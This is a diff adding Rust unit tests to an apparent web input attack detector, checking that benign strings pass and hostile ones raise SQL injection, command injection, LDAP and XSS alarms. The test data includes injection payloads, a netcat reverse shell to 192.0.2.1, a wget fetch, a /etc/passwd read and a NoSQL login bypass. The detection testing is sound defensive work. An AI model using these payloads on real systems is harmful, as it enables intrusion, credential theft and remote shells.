@@ -231,3 +231,118 @@ fn sentences_with_one_technical_word_stay_quiet() {
         ],
     );
 }
+
+#[test]
+fn words_and_units_that_look_like_code_stay_quiet() {
+    passes(&[
+        "q=union+select+panel",
+        "q=credit+union+select+branch",
+        "name=Create+Table+Setting",
+        "q=create+view+points",
+        "q=benchmark+(woodwork)",
+        "q=sleep(ing)+beauty",
+        "item=Wrench+3/8%22-5/8%22+x+6",
+        "highlight=redis%2bselect",
+        "q=ping+-a",
+        "q=rm+-r+meaning",
+        "q=javascript:+const",
+        "keyword=%7C%7C",
+        "q=%21%3D",
+        "continue=%7C%7C",
+        "q=having+where+2%3D2+what",
+        "q=%22union+jack%22",
+        "q=what+means+/etc/fstab",
+        "q=C:%5CWindows%5CTemp",
+        "q=phpinfo()+shows+what",
+        "q=directory+filter+(cn%3Dprinter)",
+        "q=%3C%25%3D+title+%25%3E",
+        "query=up%7Bpath%3D%22/etc/hosts%22%7D",
+        "q=select+*+from+prices",
+    ]);
+    alarms(
+        Kind::Sqli,
+        &[
+            "id=7+union+select+panel",
+            "q=drop+table+users",
+            "q=%27+union+select+panel",
+            "q=union+select+1,2",
+            "name=a;+create+table+b",
+            "q=sleep(9)",
+            "level=%7C%7C",
+            "id=5%27-%279",
+            "id=1+and+user_name()%3D%27a%27",
+            "id=3%27+and+dbms_lob.read(%27a%27)%3D1--",
+            "q=select+*+from+prices+union+select+1,2",
+        ],
+    );
+    alarms(Kind::Command, &["q=rm+-rf+/", "q=;busybox+nc+192.0.2.1+9+-e+sh", "q=$(%3Ca.txt)"]);
+    alarms(Kind::Ldap, &["q=(|(cn%3D*)(userPassword%3Da*))", "uid=*)(|%26'", "q=*()|%26'"]);
+}
+
+#[test]
+fn fields_for_sentences_hold_code_that_breaks_out_of_nothing() {
+    passes(&[
+        "message=Use+DELETE+FROM+log+WHERE+id%3D4;+then+COMMIT;",
+        "comment=git+log+--stat+|+head+-5",
+        "body=Type+%60df+-h%60+and+tell+us+what+it+says",
+        "message=Write+console.table(a);+or+alert(b)+there.",
+        "message=location+/+{+proxy_pass+http://127.0.0.1:8080;+}",
+        "comment=systemctl+reload+nginx;+journalctl+-u+nginx",
+        "body=require('../../tools');+import+a+from+'../b';",
+        "message=crontab:+0+4+*+*+*+/usr/bin/php+/var/www/a/b+run",
+        "comment=import+sys;+print(sys.getcwd())",
+    ]);
+    alarms(Kind::Sqli, &["message=1'+or+'1'%3D'1", "comment=4;+drop+table+a--"]);
+    alarms(
+        Kind::Command,
+        &[
+            "message=;cat+/etc/passwd",
+            "message=hello+my+friend;+cat+/etc/passwd",
+            "body=$(wget+http://192.0.2.1/a)",
+        ],
+    );
+    alarms(Kind::Xss, &["message=%3Cscript%3Ealert(1)%3C/script%3E", "body=';alert(1)//"]);
+}
+
+#[test]
+fn documents_carry_queries_templates_and_logs() {
+    for body in [
+        r#"{"rawSql":"SELECT a, count(*) FROM visits WHERE day >= '2025-01-01' GROUP BY a"}"#,
+        r#"{"query":"query Q($where: filter_input) { a(where: $where) { id } }","variables":{}}"#,
+        r#"{"summary":"{{ $labels.host }} is {{ $value | printf \"%.1f\" }}"}"#,
+        r#"{"message":"198.51.100.4 - - \"GET /a?q=b HTTP/1.1\" 200"}"#,
+        r#"{"console":["GET http://localhost:3000/ failed"]}"#,
+        r#"{"scripts":{"build":"node ./tools/a.js"}}"#,
+        r#"{"text":"请执行 `df -h` 并回复"}"#,
+        r#"{"added":["etc/passwd.sample"]}"#,
+    ] {
+        assert!(loud_document(body).is_empty(), "{body}: {:?}", loud_document(body));
+    }
+    for body in [
+        r#"{"query":"mutation{login(a:\"b\",password:{_ne:\"\"}){token}}"}"#,
+        r#"{"query":"{a{b{a{b{a{b{a{b{a{b{a{b{a{b{id}}}}}}}}}}}}}}}"}"#,
+        r#"{"sql":"SELECT a FROM b UNION SELECT password FROM c"}"#,
+        r#"{"__pro__proto__to__":{"a":1}}"#,
+        r#"{"url":"ldap://127.0.0.1:389/\nstats\nquit"}"#,
+    ] {
+        assert!(!loud_document(body).is_empty(), "{body}");
+    }
+}
+
+#[test]
+fn what_editors_and_programs_upload_is_shown() {
+    passes(&[
+        "html=%3Cp%3E%3Ciframe+src%3D%22https://player.vimeo.com/video/7%22%3E%3C/iframe%3E%3C/p%3E",
+        "html=%3Cmath+xmlns%3D%22http://www.w3.org/1998/Math/MathML%22%3E%3Cmn%3E4%3C/mn%3E%3C/math%3E",
+        "html=%3Clink+rel%3D%22stylesheet%22+href%3D%22../a.css%22%3E",
+        "svg=%3Csvg+xmlns%3D%22http://www.w3.org/2000/svg%22%3E%3Cstyle%3E.b{fill:red}%3C/style%3E%3Cpath+d%3D%22M0+0%22/%3E%3C/svg%3E",
+    ]);
+    alarms(
+        Kind::Xss,
+        &[
+            "html=%3Ciframe+src%3D%22https://a.example/b%22%3E%3C/iframe%3E",
+            "html=%3Clink+rel%3D%22stylesheet%22+href%3D%22//a.example/b.css%22%3E",
+            "svg=%3Csvg+xmlns%3D%22http://www.w3.org/2000/svg%22%3E%3Cstyle%3E%3Cimg+src%3Da+onerror%3Dalert(1)%3E%3C/style%3E%3C/svg%3E",
+        ],
+    );
+}
